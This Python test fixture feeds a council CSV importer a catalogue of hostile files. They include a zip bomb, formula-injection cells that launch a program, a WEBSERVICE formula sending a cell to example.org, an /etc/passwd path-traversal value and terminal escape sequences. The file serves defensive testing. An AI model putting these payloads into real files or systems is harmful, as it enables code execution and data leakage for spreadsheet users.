"""Files of figures made to hurt: what is no CSV, cells and rows without end, formulas, and orders to a terminal."""

from __future__ import annotations

import io
import zipfile
from functools import cache, partial

from adapters.cli.problems import render_problems
from adapters.spreadsheets.csv import read_csv
from engine.imports import Plan, plan_import
from events.errors import Problem
from tests.errors.council import a_council

HEADER = "indicator,service,period,value\n"
GOOD = "HW1,highways,2026-06,95\n"


@cache
def council():
    """A council that returns HW1 every month."""
    return a_council()


def plan(content: bytes, file: str = "return.csv") -> Plan:
    """What importing a file would do; everything it says is shown as well."""
    one = council()
    found = plan_import(one.engine, read_csv(content, file), one.clock.now().date())
    render_problems(found.problems, most=50)
    for batch in found.batches():
        assert batch is not None
    return found


def problems(content: bytes) -> tuple[Problem, ...]:
    """The errors of a file."""
    return tuple(each for each in plan(content).problems if each.severity == "error")


def zipped(name: str, size: int) -> bytes:
    """A small file that unpacks to a large one."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(name, b"0" * size)
    return held.getvalue()


def cell(text: str) -> str:
    """A file with one odd value."""
    return f"{HEADER}HW1,highways,2026-06,{text}\n"


NOT_TEXT = {
    "a bomb of fifty megabytes called .csv": zipped("bomb.csv", 50_000_000),
    "a workbook": zipped("xl/worksheets/sheet1.xml", 1_000),
    "an OpenDocument sheet": zipped("content.xml", 1_000),
    "an old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2_000,
    "a compressed file": b"\x1f\x8b\x08\x00\x00\x00\x00\x00" + bytes(range(128, 256)) * 4,
    "a portable document": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n",
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "a page": b"<!DOCTYPE html><html><body><table><tr><td>HW1</td></tr></table></body></html>\n",
    "a message": b'{"indicator": "HW1", "value": 95}\n',
    "text in UTF-16": HEADER.encode("utf-16"),
    "text in UTF-16 without its mark": HEADER.encode("utf-16-le"),
    "text in UTF-32": HEADER.encode("utf-32"),
    "an empty cell of zero bytes": b"indicator,service,period,value\nHW1,highways,2026-06,\x00\n",
    "zero bytes": b"\x00" * 1_000_000,
    "nothing": b"",
    "nothing but a mark": b"\xef\xbb\xbf",
    "nothing but ends of lines": b"\r\n" * 500_000,
    "nothing but spaces": b" " * 90_000 + b"\n",
    "nothing but commas": b"," * 1_000_000,
    "sixty megabytes": HEADER.encode() + GOOD.encode() * 2_600_000,
}
CUT = {
    "a million commas behind the header": HEADER + "," * 1_000_000,
    "a header of fifty thousand columns": ",".join(f"c{n}" for n in range(20_000)) + "\n" + GOOD,
    "a header of nothing but months": "indicator,service,"
    + ",".join(["2026-04"] * 9_000)
    + "\nHW1,highways\n",
    "a cell of a megabyte": cell("9" * 1_000_000),
    "a quoted cell of a megabyte": cell('"' + "9" * 1_000_000 + '"'),
    "a quotation mark never closed": HEADER + '"HW1' + GOOD * 5_000,
    "a quotation mark at the end": HEADER + GOOD + '"',
    "text behind a quotation mark": HEADER + '"HW1"x,highways,2026-06,95\n',
    "nothing but quotation marks": '"' * 90_000 + "\n",
    "nothing but quotation marks and ends of lines": '"\n' * 40_000,
    "half a million quotation marks": HEADER + '""' * 500_000,
    "cells of quotation marks": HEADER + '"""",' * 15_000 + "\n",
    "a wide row that is wrong in all its cells": "indicator,service,"
    + ",".join(f"{year}-{month:02d}" for year in range(1900, 2026) for month in range(1, 13))
    + "\nHW1,highways"
    + ",n/a1" * 1_512
    + "\n",
    "thousands of rows that are wrong": HEADER + "HW9,lowways,2026-13,n/a\n" * 3_000,
    "thousands of rows twice": HEADER + GOOD * 4_000,
    "a thousand columns too many": HEADER + "HW1,highways,2026-06,95" + ",1" * 20_000 + "\n",
    "a number of forty digits": cell("9" * 40),
    "a number of many decimals": cell("0." + "9" * 39),
    "an exponent": cell("1e999999999"),
    "a number that is none": cell("NaN"),
    "no end of a number": cell("Infinity"),
    "a number in hexadecimals": cell("0x5F"),
    "a number with underscores": cell("9_5"),
    "a formula": cell("=1+1"),
    "a formula that starts a program": cell("\"=cmd|'/C calc'!A0\""),
    "a formula behind a plus": cell("+cmd|'/C calc'!A0"),
    "a formula behind a minus": cell("-2+3+cmd|'/C calc'!A0"),
    "a formula behind an at": cell("@SUM(1+1)*cmd|'/C calc'!A0"),
    "a formula that fetches": cell('"=WEBSERVICE(""https://example.org/?""&A1)"'),
    "a formula for an indicator": HEADER + "=HYPERLINK(1),highways,2026-06,95\n",
    "a path for an indicator": HEADER + "../../../../etc/passwd,highways,2026-06,95\n",
    "a path for a service": HEADER + "HW1,../../highways,2026-06,95\n",
    "slashes in names": HEADER + "HW1/highways,highways/2026,2026-06,95\n" * 2,
    "orders to a terminal": HEADER + "HW1,\x1b[2J\x1b]0;owned\x07highways,2026-06,95\n",
    "a heading that orders a terminal": "indicator,service,period,\x1b[31mvalue\n" + GOOD,
    "a turned line": HEADER + "HW1,\u202ehighways,2026-06,95\n",
    "ends of lines that are not ours": HEADER + "HW1,highways,2026-06,95\u2028HW1,highways,2026-05,95\n",
    "a vertical tab": HEADER + "HW1,highways,2026-06,95\x0bHW1\n",
    "a period of nowhere": HEADER + "HW1,highways,0000-00,95\n",
    "a period beyond all": HEADER + "HW1,highways,9999-12,95\n",
    "a period of ten thousand digits": HEADER + f"HW1,highways,{'2' * 10_000},95\n",
    "digits of another script": cell("٩٥"),
    "two signs of percent": cell("95%%"),
    "a date that is none": HEADER + "HW1,highways,31/02/2026,95\n",
    "mixed ends of lines and a wrong row": HEADER.replace("\n", "\r")
    + GOOD.replace("\n", "\r\n")
    + "HW9,a,b,c\n",
}
HOSTILE = {
    name: partial(problems, given if isinstance(given, bytes) else given.encode())
    for name, given in {**NOT_TEXT, **CUT}.items()
}
